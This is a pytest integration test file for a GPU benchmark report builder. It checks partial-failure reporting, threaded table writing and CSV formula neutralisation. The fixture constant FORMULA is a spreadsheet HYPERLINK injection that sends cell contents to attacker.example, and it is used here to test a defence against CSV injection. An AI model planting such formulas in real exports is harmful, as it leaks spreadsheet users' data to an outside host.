"""A report set whose parts fail one by one, and text a spreadsheet would run (issue 32).

Real deltalake, DuckDB and the page's templates. Before: a failing best_value (StatsError) made
index.html fail too (``KeyError: 'best_value'``): no page at all; and ``=HYPERLINK(…)`` in a
free-text field went unchanged into the CSVs a spreadsheet opens.
"""

from __future__ import annotations

import datetime as dt

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from gpucompare.lake.ingest import RunContext, results_rows
from gpucompare.lake.tables import open_lake
from gpucompare.reports import build
from gpucompare.reports.build import run_reports
from gpucompare.reports.report_set import ReportsIncomplete
from gpucompare.reports.stats import StatsError
from tests.support.reports_data import record

FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"details")'


@pytest.fixture
def lake_with_a_formula(tmp_path):
    """Two nights of g5.xlarge (a priced machine) whose free-text ``source`` is a formula."""
    lake = open_lake(str(tmp_path / "lake"))
    context = RunContext(provider="aws", instance_type="g5.xlarge", region="us-east-1", target="ec2",
                         source=FORMULA).validated()
    for night, speed in ((10, 1000.0), (11, 1010.0)):
        rows = [{**record(images_per_sec=speed, night=dt.date(2026, 3, night)), "run_id": f"nightly-{night}"}]
        lake.write_results(results_rows(rows, context), run_id=f"nightly-{night}")
    return str(tmp_path / "lake")


def test_a_failing_report_leaves_the_others_and_the_page_which_names_it(lake_with_a_formula, tmp_path,
                                                                          monkeypatch):
    def broken(_build):
        raise StatsError("every sample must be a finite number")

    monkeypatch.setitem(build.BUILDERS, "best_value", broken)
    out = tmp_path / "out"
    with pytest.raises(ReportsIncomplete) as failed:
        run_reports(lake_with_a_formula, str(out))
    assert set(failed.value.failures) == {"best_value"}, failed.value.failures  # the page drew itself
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "1 part(s) of this report set failed" in page
    assert "best_value</b>: StatsError: every sample must be a finite number" in page
    assert 'id="throughput"' in page and "Not drawn" in page  # the cost section says why it is empty
    assert (out / "throughput.csv").exists() and not (out / "best_value.csv").exists()
    assert "best_value: StatsError" in (out / "summary.md").read_text(encoding="utf-8")


def test_formula_cells_are_neutralised_in_the_csvs_and_kept_in_the_parquet(lake_with_a_formula, tmp_path):
    out = tmp_path / "out"
    run_reports(lake_with_a_formula, str(out))
    csv_sources = pacsv.read_csv(out / "cost_per_million.csv").column("result_source").to_pylist()
    parquet_sources = pq.read_table(out / "cost_per_million" / "cost_per_million.parquet").column(
        "result_source").to_pylist()
    assert csv_sources and set(csv_sources) == {"'" + FORMULA}
    assert set(parquet_sources) == {FORMULA}
    raw = (out / "cost_per_million.csv").read_text(encoding="utf-8")
    assert ',"=' not in raw and "\n=" not in raw and ',=' not in raw  # no cell starts with '='


def test_a_table_file_that_fails_while_the_page_is_drawn_is_named_on_the_page(lake_with_a_formula, tmp_path,
                                                                              monkeypatch):
    """The tables' files are written on a thread of their own while the page is drawn
    (``publish.TableWriter``): a file that fails then is still named on the page (drawn again),
    in summary.md and manifest.json, and every other file is written. Before the page waited for
    the files; a writer that forgot to wait, or a page not drawn again, fails here."""
    import threading

    from gpucompare.reports import publish

    drawn = threading.Event()
    real_render, real_parquet = publish.render_page, publish._parquet_bytes

    def render_page(report_set, generated_at):
        page = real_render(report_set, generated_at)
        drawn.set()  # the scaling file fails only once the first page is drawn
        return page

    def parquet_bytes(table):
        if "speedup" in table.column_names:  # the scaling table
            assert drawn.wait(30), "the page was not drawn while the files were written"
            raise OSError(28, "No space left on device")
        return real_parquet(table)

    monkeypatch.setattr(publish, "render_page", render_page)
    monkeypatch.setattr(publish, "_parquet_bytes", parquet_bytes)
    out = tmp_path / "out"
    with pytest.raises(ReportsIncomplete) as failed:
        run_reports(lake_with_a_formula, str(out))
    assert set(failed.value.failures) == {"scaling"}, failed.value.failures
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "scaling</b>: OSError: [Errno 28] No space left on device" in page
    assert "scaling: OSError" in (out / "summary.md").read_text(encoding="utf-8")
    assert not (out / "scaling.csv").exists() and (out / "regressions.csv").exists()
    assert (out / "throughput" / "throughput.parquet").exists()


def test_the_regressions_built_on_their_own_thread_match_one_connection(lake_with_a_formula, tmp_path):
    """The regressions run on a second DuckDB connection and thread (``build._build_tables``):
    its session settings (UTC) and files must give the table one connection gives (the SQL run
    here on the main connection, after the staging, as it ran before)."""
    from gpucompare.reports import uncertainty
    from gpucompare.reports.inputs import ReportInputs, ResultFiles, connect, load_sql
    from gpucompare.reports.report_set import RegressionRule

    inputs = ReportInputs.from_lake(lake_with_a_formula)
    threaded = build.build_reports(inputs, None).tables["regressions"]
    con = connect()
    try:
        files = ResultFiles.of(inputs.lake, con, inputs.results)
        files.register("recent")
        rule = RegressionRule()
        params = {"history_runs": rule.history_runs, "min_history": rule.min_history,
                  "mad_factor": rule.mad_factor, "min_drop": rule.min_drop}
        table = con.sql(load_sql("regressions"), params=params).to_arrow_table()
        alone = uncertainty.without_sample_key(uncertainty.test_regressions(table))
    finally:
        con.close()
    assert threaded.num_rows == alone.num_rows == 1
    assert threaded.select(alone.column_names).equals(alone.cast(threaded.select(alone.column_names).schema))
    assert str(threaded["measured_at"].type) == "timestamp[us, tz=UTC]"


def test_the_lanes_build_what_one_connection_builds(tmp_path, monkeypatch):
    """The reports are built in lanes side by side, each on a thread and DuckDB connection of its
    own (``build.LANES``): every table must equal the one built with every report in one lane on one
    connection, in order (a report reading a table registered on another lane's connection, or a
    connection missing a side table, fails or differs here)."""
    from tests.integration.reports.test_html import small_report

    lanes = small_report(tmp_path / "lanes")
    monkeypatch.setattr(build, "LANES", (tuple(name for lane in build.LANES for name in lane),))
    one = small_report(tmp_path / "one")
    assert list(lanes.tables) == list(one.tables) == [n for n in build.BUILDERS if n in one.tables]
    assert not lanes.failures and not one.failures
    assert all(one.tables[n].num_rows for n in ("cost_per_million", "best_value", "scaling", "throughput",
                                                 "regressions"))
    for name, table in one.tables.items():
        assert lanes.tables[name].equals(table), name


@pytest.mark.parametrize("enabled_before", [True, False])
def test_the_collector_is_paused_while_the_set_is_built_and_restored_after(lake_with_a_formula, tmp_path,
                                                                          monkeypatch, enabled_before):
    """``build.collector_paused``: Python's cyclic collector is off while the reports are built and
    the page drawn (seen from inside a builder and from the page), and afterwards as it was before
    (a caller that had it off, e.g. a benchmark, keeps it off)."""
    import gc

    from gpucompare.reports import publish

    seen: dict[str, bool] = {}
    scaling = build.BUILDERS["scaling"]
    monkeypatch.setitem(build.BUILDERS, "scaling",
                        lambda b: (seen.setdefault("builder", gc.isenabled()), scaling(b))[1])
    draw = publish.render_page
    monkeypatch.setattr(publish, "render_page",
                        lambda *a, **k: (seen.setdefault("page", gc.isenabled()), draw(*a, **k))[1])
    (gc.enable if enabled_before else gc.disable)()
    try:
        run_reports(lake_with_a_formula, str(tmp_path / "out"))
        assert gc.isenabled() is enabled_before
    finally:
        gc.enable()
    assert seen == {"builder": False, "page": False}


def test_the_chart_rows_written_on_a_lane_draw_the_page_the_page_draws_alone(tmp_path, monkeypatch):
    """``publish_reports`` writes the throughput and scaling chart rows on the lane that built their
    table (``page_view.prepare_rows``) while the other lanes build: index.html must be byte for byte
    the page drawn with no rows prepared (the page writes them itself); and a part that fails there
    is left to the page, which records it once and draws the rest."""
    from gpucompare.reports import page_view
    from gpucompare.reports.build import publish_reports
    from tests.integration.reports.test_html import small_inputs
    from tests.support.page_site import GENERATED_AT

    inputs = small_inputs(tmp_path / "lake")
    lanes = publish_reports(inputs, str(tmp_path / "lanes"), generated_at=GENERATED_AT)
    assert set(lanes.prepared) == {"throughput rows", "scaling rows"}
    assert all(lanes.prepared.values()), "no rows prepared: the comparison below would prove nothing"
    monkeypatch.setattr(page_view, "prepare_rows", lambda report_set, name: None)
    alone = publish_reports(inputs, str(tmp_path / "alone"), generated_at=GENERATED_AT)
    assert alone.prepared == {}
    page = "index.html"
    assert (tmp_path / "lanes" / page).read_bytes() == (tmp_path / "alone" / page).read_bytes()

    monkeypatch.undo()

    def broken(table):
        raise ValueError("a scaling row that cannot be written")

    monkeypatch.setitem(page_view.CHART_ROWS, "scaling rows", ("scaling", broken))
    with pytest.raises(ReportsIncomplete) as failed:
        publish_reports(inputs, str(tmp_path / "broken"), generated_at=GENERATED_AT)
    assert "scaling rows" not in failed.value.report_set.prepared
    assert list(failed.value.report_set.failures) == ["index.html: scaling rows"]
    page = (tmp_path / "broken" / "index.html").read_text(encoding="utf-8")
    assert "a scaling row that cannot be written" in page and "Throughput against batch size" in page
